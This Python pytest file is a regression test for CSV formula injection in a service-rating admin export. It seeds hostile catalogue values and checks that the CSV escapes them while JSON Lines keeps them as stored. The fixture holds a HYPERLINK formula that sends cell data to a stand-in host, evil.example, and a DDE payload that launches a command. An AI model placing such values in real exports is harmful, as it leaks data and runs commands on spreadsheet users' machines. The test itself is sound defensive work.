"""Issue 12 item 9: CSV formula injection through catalogue names (not only comments).

Reproduction: item and staff names ``=HYPERLINK(...)`` and ``+SUM(...)`` came out raw in the
export, where a spreadsheet runs them; only comments were escaped.
"""

from __future__ import annotations

import csv
import io
import json

import pytest

from models.catalog import ServiceItem, Staff
from tests.support.admins import admin_token
from tests.support.public_seed import insert_case, insert_rating, seed_catalog

EVIL = {
    "item": '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
    "clerk": "+SUM(1+1)",
    "comment": "@cmd|' /C calc'!A0",
}


def seed(ctx) -> None:
    seed_catalog(ctx)
    ServiceItem.update(name=EVIL["item"]).where(ServiceItem.code == "440103-SY-001").execute()
    Staff.update(name=EVIL["clerk"]).where(Staff.staff_no == "HL001").execute()
    case_id = insert_case(ctx, "440103-SY-001")
    insert_rating(case_id, 2, comment=EVIL["comment"], indicators=("poor_attitude",))


@pytest.mark.asyncio
async def test_every_text_cell_is_escaped_in_csv(api, ctx, http_client, base_url):
    await ctx.db.run(seed, ctx)
    token = await admin_token(api, ctx)
    response = await http_client.fetch(
        f"{base_url}/admin/api/export?format=csv", headers={"Authorization": f"Bearer {token}"}
    )
    header, *rows = list(csv.reader(io.StringIO(response.body.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1
    cells = dict(zip(header, rows[0], strict=True))
    assert cells["item_name"] == "'" + EVIL["item"]
    assert cells["window_staff_name"] == "'" + EVIL["clerk"]
    assert cells["comment"] == "'" + EVIL["comment"]
    for value in rows[0]:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    # JSON Lines is data, not a spreadsheet: the values stay as stored
    response = await http_client.fetch(
        f"{base_url}/admin/api/export?format=jsonl", headers={"Authorization": f"Bearer {token}"}
    )
    (line,) = [json.loads(x) for x in response.body.decode().splitlines() if x]
    assert (line["item_name"], line["window_staff_name"]) == (EVIL["item"], EVIL["clerk"])
